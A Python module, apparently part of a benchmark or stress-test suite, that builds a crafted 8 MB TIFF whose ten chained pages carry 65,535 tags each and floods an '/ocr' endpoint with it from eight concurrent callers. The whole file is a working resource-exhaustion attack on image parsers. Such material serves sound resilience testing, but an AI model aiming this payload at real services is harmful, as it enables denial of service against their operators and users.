"""TIFF files of 8 MB whose ten pages have 65 535 tags each."""

import struct
from multiprocessing.synchronize import Event

from benchmarks.attack.callers import Address, Outcomes, post, repeat

CALLERS = 8
_PAGES, _TAGS = 10, 65_535
_SHORT = 3
# Width, height, bits, compression, photometric interpretation, strip offset, rows, strip size.
_NEEDED = {256: 8, 257: 8, 258: 1, 259: 1, 262: 1, 273: 0, 278: 8, 279: 8}


def attack(address: Address, stop: Event) -> Outcomes:
    """Send the files."""
    data = _tiff()
    return repeat(lambda: post(address, "/ocr", data), CALLERS, stop)


def _tiff() -> bytes:
    tags = {**_NEEDED, **dict.fromkeys(range(300, 300 + _TAGS - len(_NEEDED)), 1)}
    entries = b"".join(
        struct.pack("<HHIHxx", number % 65_536, _SHORT, 1, value) for number, value in sorted(tags.items())
    )
    size = 2 + len(entries) + 4
    # Each page names the position of the next one.
    following = [8 + size * page for page in range(1, _PAGES)] + [0]
    pages = [struct.pack("<H", len(tags)) + entries + struct.pack("<I", place) for place in following]
    return b"II*\0" + struct.pack("<I", 8) + b"".join(pages)
